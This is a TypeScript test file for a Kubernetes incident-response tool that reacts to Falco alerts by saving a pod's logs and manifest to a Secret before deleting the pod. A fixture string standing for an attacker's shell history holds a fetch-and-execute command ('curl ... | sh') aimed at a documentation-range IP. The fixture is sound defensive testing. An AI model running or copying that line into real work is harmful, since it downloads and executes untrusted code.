/**
 * `capture` then `delete` through the app, against the fake API server: the evidence is read and
 * kept before the pod is deleted, the reply event carries it, a redelivery answered from the
 * claim's record leads to the Secret, and a capture that fails does not stop the delete unless
 * the policy makes it required. drop's own log never holds the pod's logs.
 */
import t, { type Test } from 'tap';
import { replyType } from '../../src/reply.ts';
import { claimAnnotations, claimName } from '../../src/state/claims.ts';
import { captureName, type PodCapture } from '../../src/state/evidence.ts';
import { FakeKube, makePod, statusBody } from '../helpers/fake-kube.ts';
import { brokerHeaders, falcoPayload } from '../helpers/falco.ts';
import { createFakeAndApp, createTestApp, lower, type TestApp } from '../helpers/app.ts';

const ns = 'falco-drop';
const podName = 'mysql-db-7d59548d75-g9msc';
const podUid = '5f0a3c2e-9b1d-4e7a-8c6f-2b3d4e5f6a7b';
const podPath = `/api/v1/namespaces/default/pods/${podName}`;
const source = 'https://falco.org';
/** What the attacker's shell left in the log: it must reach the reply and the Secret, never drop's log. */
const marker = 'bash: curl http://203.0.113.9/x.sh | sh';

const policy = (required = false) =>
  ['rules:', '  - name: capture-then-delete', '    match: {rules: ["Terminal shell in container"]}', '    actions:', `      - {action: capture${required ? ', parameters: {required: true}' : ''}}`, '      - action: delete', ''].join('\n');

async function setup(t: Test, options: { required?: boolean; dryRun?: boolean; terminatingPods?: boolean } = {}) {
  let fake: FakeKube;
  let drop: TestApp;
  if (options.terminatingPods) {
    // A deleted pod stays, terminating, through its grace period, as the API server keeps it.
    fake = await new FakeKube({ terminatingPods: true }).start();
    fake.addNamespace('default');
    fake.addPod(makePod('default', podName, podUid));
    drop = await createTestApp({ fake, policyYaml: policy() });
    t.teardown(async () => {
      await drop.close();
      await fake.stop();
    });
  } else {
    ({ fake, drop } = await createFakeAndApp(t, [makePod('default', podName, podUid)], { policyYaml: policy(options.required), dryRun: options.dryRun }));
  }
  fake.setLog('default', podName, 'main', `mysqld: ready for connections\n${marker}\n`);
  return { fake, drop };
}

function deliver(drop: TestApp, id: string) {
  return drop.app.inject({ method: 'POST', url: '/', headers: lower(brokerHeaders(id)), payload: falcoPayload() });
}

function notInLogs(t: Test, drop: TestApp) {
  t.notOk(JSON.stringify(drop.logs).includes('203.0.113.9'), "drop's own log holds none of the pod's log");
}

t.test('captures before the delete, and the reply event carries the manifest and the logs', async (t) => {
  const { fake, drop } = await setup(t);
  const res = await deliver(drop, 'evt-1');
  t.equal(res.statusCode, 200);
  t.equal(res.headers['ce-type'], replyType);
  const reply = res.json() as { result: string; actions: { action: string; status: string; reason: string }[]; captures: PodCapture[] };
  const secret = captureName({ source, id: 'evt-1' }, 'capture-then-delete');
  t.equal(reply.result, 'done');
  t.match(reply.actions, [
    { action: 'capture', status: 'done', reason: `kept in Secret ${ns}/${secret}: pod default/${podName}, manifest, logs of 1 container (0.1 KiB)` },
    { action: 'delete', status: 'done' },
  ]);
  t.equal(reply.captures.length, 1);
  t.match(reply.captures[0], { pod: { namespace: 'default', name: podName, uid: podUid }, secret: `${ns}/${secret}`, manifest: { kind: 'Pod', metadata: { uid: podUid } } });
  t.same(reply.captures[0]!.logs.map((l) => [l.container, l.log]), [['main', `mysqld: ready for connections\n${marker}\n`]]);

  // In order: the log read and the Secret written, then the pod deleted.
  const at = (method: string, path: RegExp) => fake.requests.findIndex((r) => r.method === method && path.test(r.path));
  t.ok(at('GET', /\/log$/) < at('POST', /\/secrets$/), 'the log is read, then kept');
  t.ok(at('POST', /\/secrets$/) < at('DELETE', new RegExp(`^${podPath}$`)), 'kept before the delete');
  t.equal(fake.pods.size, 0, 'then the pod is gone');
  t.equal(fake.secretData(ns, secret)!['main.log']!.toString(), `mysqld: ready for connections\n${marker}\n`, 'and its log is kept');
  // The Events are left after the answer, each as its action ends.
  await drop.app.background.drain();
  t.match(fake.events.map((e) => e.reason).sort(), ['FalcoDropCapture', 'FalcoDropDelete']);
  notInLogs(t, drop);
});

t.test('a redelivery answered from the claim\'s record (another replica) leads to the Secret', async (t) => {
  const { fake, drop } = await setup(t, { terminatingPods: true });
  await deliver(drop, 'evt-1');
  await drop.app.background.drain(); // the outcome is recorded after the answer
  const secret = captureName({ source, id: 'evt-1' }, 'capture-then-delete');
  const record = fake.leases.get(`${ns}/${claimName('capture-then-delete', podUid)}`)!.metadata.annotations![claimAnnotations.outcome]!;
  t.ok(Buffer.byteLength(record) <= 4096 && record.includes(secret) && !record.includes('203.0.113.9'), 'the claim records the reference, never the logs');

  // The Broker redelivers the event later (the first answer was lost), to another replica, while
  // the pod is terminating: that replica answers from the claim.
  const other = await createTestApp({ fake, identity: 'drop-other', policyYaml: policy() });
  t.teardown(() => other.close());
  const res = await deliver(other, 'evt-1');
  t.equal(res.statusCode, 200);
  const reply = res.json() as { actions: { action: string; reason: string }[]; captures?: unknown };
  t.match(reply.actions[0], { action: 'capture', reason: new RegExp(`^kept in Secret ${ns}/${secret}:`) });
  t.equal(reply.captures, undefined, 'the record carries the reference, not the capture');
  t.equal(fake.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/secrets')).length, 1, 'nothing captured again');
  // What the reference leads to.
  t.match(fake.secretData(ns, secret)!['main.log']!.toString(), marker);
});

t.test('a capture that fails does not stop the delete', async (t) => {
  const { fake, drop } = await setup(t);
  fake.fail({ method: 'GET', path: /\/log$/, status: 403, body: statusBody(403, 'pods "x" is forbidden: cannot get resource "pods/log"') });
  const res = await deliver(drop, 'evt-1');
  t.equal(res.statusCode, 200);
  const reply = res.json() as { result: string; actions: { action: string; status: string; reason: string }[]; captures?: unknown };
  t.equal(reply.result, 'done');
  t.match(reply.actions, [
    { action: 'capture', status: 'skipped', reason: /^could not capture pod .*: read the log of container main: Kubernetes answered 403: .*; not required, so the next actions run$/ },
    { action: 'delete', status: 'done' },
  ]);
  t.equal(reply.captures, undefined);
  t.equal(fake.pods.size, 0, 'the pod is deleted');
});

t.test('a required capture that fails stops the delete; the dead-letter body holds no logs', async (t) => {
  const { fake, drop } = await setup(t, { required: true });
  fake.fail({ method: 'POST', path: /\/secrets$/, status: 403, body: statusBody(403, 'secrets is forbidden') });
  const res = await deliver(drop, 'evt-1');
  t.equal(res.statusCode, 422);
  t.match(res.json(), { error: { code: 'DROP_ACTION_FAILED', details: { actions: [{ action: 'capture', status: 'failed', reason: /\(required\): keep the capture in Secret .*: Kubernetes answered 403/ }] } } });
  t.notOk(res.body.includes('203.0.113.9'), 'the error body carries no logs');
  t.equal(fake.pods.size, 1, 'the pod is not deleted');
  t.equal(fake.requests.filter((r) => r.method === 'DELETE').length, 0);
  notInLogs(t, drop);
});

t.test('a required capture the API cannot serve now is retried before anything is destroyed', async (t) => {
  const { fake, drop } = await setup(t, { required: true });
  fake.fail({ method: 'GET', path: /\/log$/, status: 503 });
  const res = await deliver(drop, 'evt-1');
  t.equal(res.statusCode, 503);
  t.equal(fake.pods.size, 1);
  const again = await deliver(drop, 'evt-1');
  t.equal(again.statusCode, 200, 'the retry captures, then deletes');
  t.equal(fake.pods.size, 0);
});

t.test('under the global dry-run the reply carries the capture and nothing is kept or deleted', async (t) => {
  const { fake, drop } = await setup(t, { dryRun: true });
  const res = await deliver(drop, 'evt-1');
  t.equal(res.statusCode, 200);
  const reply = res.json() as { result: string; captures: PodCapture[] };
  t.equal(reply.result, 'dry-run');
  t.match(reply.captures[0], { secret: null, logs: [{ log: new RegExp(marker.replace(/[.|/]/g, '\\$&')) }] });
  t.equal(fake.secrets.size, 0);
  t.same(fake.mutations().filter((r) => r.method !== 'DELETE' || r.query.dryRun !== 'All' && !JSON.stringify(r.body).includes('"All"')), [], 'nothing written');
});
